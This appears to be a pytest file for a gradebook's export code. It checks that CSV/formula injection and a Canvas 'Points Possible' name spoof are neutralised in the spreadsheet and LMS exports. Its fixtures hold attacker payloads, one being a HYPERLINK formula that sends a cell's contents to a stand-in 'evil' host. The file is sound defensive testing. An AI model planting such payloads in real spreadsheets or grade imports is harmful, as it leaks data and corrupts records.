"""Attacks on what leaves the gradebook for a spreadsheet or an LMS: formulas that survive a
first-character escape, and a student row that Canvas takes for its points-possible row.

- A spreadsheet that splits on ``;`` (Excel in a locale whose list separator is ``;``),
  on tabs or on ``|`` starts a cell after each of them, inside a cell Python's `csv` wrote
  unquoted; a spreadsheet that trims spaces runs ``" =1+1"``. The check reads every CSV
  the gradebook writes, splits each cell on every separator, and finds no piece that
  (spaces stripped) starts a formula.
- Canvas's importer takes any row whose first cell matches ``/Points Possible/`` as the row
  of maxima; a student named ``Points Possible (ann)`` would reset every assignment's
  maximum to that student's scores. The check parses the export as Canvas does.

Before the defence (`formula.csv_safe` escaping only the first character; the student's
name written as it was), both attack tests failed; the honest neighbour's row never moves.
The gradebook is a real one (SQLite, views, manifest) written from a small report in
process; the outputs go through the command line.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re

import pytest

from mlinfra_lab.cli import main
from mlinfra_lab.grading.formula import SEPARATORS, csv_safe, csv_unescape
from mlinfra_lab.grading.grade import CellResult, GradeReport, GradeResult
from mlinfra_lab.grading.views import BookSession, store_report

pytestmark = pytest.mark.grading
SECRET = "spreadsheet-s3cret"
SEMICOLON = 'x; =HYPERLINK("http://evil/?"&A1;"open")'
SPACE = " =1+1"
PIPE = "y|@SUM(A1:A9)"
TAB = "z\t-2+3"
PP = "Points Possible (ann)"
ATTACKERS = (SEMICOLON, SPACE, PIPE, TAB, PP)


def _result(student: str, points: tuple[float, ...], message: str = "wrong") -> GradeResult:
    cells = tuple(
        CellResult(f"g{k}", f"ex{k}", p, 2.0, p == 2.0, "" if p == 2.0 else message)
        for k, p in enumerate(points)
    )
    written = CellResult("w1", "explain", 0.0, 3.0, False, "needs manual grading", True, SPACE)
    return GradeResult(student, "00_warmup", f"{student}.ipynb", (*cells, written), "ab" * 32)


@pytest.fixture
def gb(tmp_path):
    report = GradeReport(
        (
            _result("ann", (2, 2)),  # the honest neighbour
            *(_result(name, (0, 0), f"got 3; {SPACE}") for name in ATTACKERS),
        ),
        (),
        sources=(("00_warmup", "/labs/00_warmup.ipynb", "cd" * 32),),
    )
    with BookSession(tmp_path / "gb", SECRET, create=True) as book:
        store_report(book.db, report, command="grade", by="t")
        book.commit()
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(["grade", "--secret", SECRET, "--out", str(tmp_path / "gb"),
                     "--export", "canvas", "--export", "moodle", "--export", "csv"])  # fmt: skip
    assert code == 0, err.getvalue()
    return tmp_path / "gb"


def _cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _formula_pieces(cell: str) -> list[str]:
    """The pieces of `cell` that a spreadsheet splitting on any separator would run."""
    pieces = re.split(f"[{re.escape(SEPARATORS)}]", cell)
    return [p for p in pieces if p.strip() and p.strip()[0] in "=+-@"]


@pytest.mark.parametrize(
    "name", ["gradebook.csv", "manual.csv", "export-canvas.csv", "export-moodle.csv", "export-csv.csv"]
)  # fmt: skip
def test_no_cell_runs_as_a_formula_under_any_separator(gb, name):
    cells = [c for row in _cells(gb / name) for c in row]
    assert any("HYPERLINK" in c for c in cells) or name == "manual.csv", "the attacker is listed"
    assert [c for c in cells if _formula_pieces(c)] == []


def test_canvas_sees_one_points_possible_row_and_the_neighbour_is_unchanged(gb):
    rows = _cells(gb / "export-canvas.csv")
    as_canvas = [r for r in rows[1:] if re.search("Points Possible", r[0])]  # its importer's test
    assert as_canvas == [["Points Possible", "", "", "", "", "7"]]
    assert rows[1][0] == "Points Possible", "the export's own row comes first"
    body = {r[3]: r for r in rows[2:]}  # by SIS Login ID, as Canvas matches
    assert body["ann"] == ["ann", "", "", "ann", "", "4"], "the honest neighbour"
    attacker = body[PP]
    assert attacker[0] == "Points-Possible (ann)" and attacker[5] == "0"


def test_escaping_round_trips_for_the_manual_sheet():
    for text in (*ATTACKERS, "=1", "\t=1", "\r=1", "-1", "a,-1", "plain; text", "x;\t=1"):
        assert csv_unescape(str(csv_safe(text))) == text
        assert not _formula_pieces(str(csv_safe(text))), text
    assert csv_safe(3) == 3 and csv_safe(None) is None and csv_safe("ok, fine") == "ok, fine"
